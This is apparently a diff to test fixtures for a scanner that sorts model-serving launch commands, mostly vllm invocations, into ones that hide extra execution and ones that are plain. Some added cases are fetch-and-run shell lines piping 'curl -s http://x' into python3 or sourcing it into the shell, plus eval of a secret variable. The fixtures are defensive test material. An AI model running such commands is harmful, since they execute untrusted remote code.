@@ -63,6 +63,17 @@ HIDDEN: dict[str, tuple[Json, list[Json], str]] = {
     "the same in the older form": (sh("`cat /etc/m` serve evil/m"), [], NAMED),
     "a program in a Secret": (sh("$X serve evil/m", env=[HARMLESS, SECRET]), [], NAMED),
     "arguments that are set": (sh('set -- /srv/x; "$@"', env=[HARMLESS]), [], NAMED),
+    "a substituted file": (sh("source <(curl -s http://x)", env=[HARMLESS]), [], PIPED),
+    "code of Python on the input": (sh("curl -s http://x | python3 -", env=[HARMLESS]), [], PIPED),
+    "code of Python that is fetched": (sh("curl -s http://x | python3", env=[HARMLESS]), [], PIPED),
+    "a file that is open": (sh("curl -s http://x | . /dev/stdin", env=[HARMLESS]), [], PIPED),
+    "a command of a known program that is computed": (
+        sh("vllm $(cat /x) & vllm serve good/m"),
+        [],
+        ARGUMENTS,
+    ),
+    "a program beside the model": (sh("/d/x & vllm serve /d/m", **at("/d")), [CLAIM], PROGRAM),
+    "a list of what is read": (sh('mapfile -t A < /x; vllm serve good/m "${A[@]}"'), [], ARGUMENTS),
     "a line in a Secret": (sh('eval "$X"', env=[HARMLESS, SECRET]), [], NAMED),
     "arguments in a file": (sh("vllm serve good/m $(cat /etc/m)"), [], ARGUMENTS),
     "arguments in a file, in the older form": (sh("vllm serve good/m `cat /etc/m`"), [], ARGUMENTS),
@@ -245,6 +256,15 @@ PLAIN: dict[str, tuple[Json, list[Json]]] = {
         [],
     ),
     "a folder for a cache": (sh("mkdir -p /root/.cache; vllm serve good/m"), []),
+    "a list that is written out": (
+        sh('A=(--port 8000); A+=(--dtype auto); exec vllm serve good/m "${A[@]}"'),
+        [],
+    ),
+    "a configuration beside its model": (
+        {"args": ["--model", "/d/m", "--config", "/d/c.yaml"], **at("/d")},
+        [CLAIM],
+    ),
+    "an answer that Python reads": (sh("curl -s http://x | python3 -c 'print(1)'; vllm serve good/m"), []),
     "a list of words": (sh("L=(); L+=($A); vllm serve good/m"), []),
     "a comment with a full stop": (
         sh("# as told (in x).\n# There. Older ones don\nvllm serve good/m", **at("/d")),
@@ -259,10 +279,6 @@ PLAIN: dict[str, tuple[Json, list[Json]]] = {
         [{"name": "d", "hostPath": {"path": "/home/nvidia"}}],
     ),
     "a configuration of the image": ({"args": ["--model", "good/m", "--config", "/etc/vllm.yaml"]}, []),
-    "a server beside its model": (
-        {"command": ["python3", "/d/serve.py", "--model-path", "/d/m"], **at("/d")},
-        [CLAIM],
-    ),
     "a pattern that is compiled": (py("import re\nre.compile('x')\nmodel.eval()\nLLM('good/m')"), []),
     "a file that is read": (py("x = open('/x').read()\nLLM('good/m')"), []),
     "an edited file that is no configuration": (
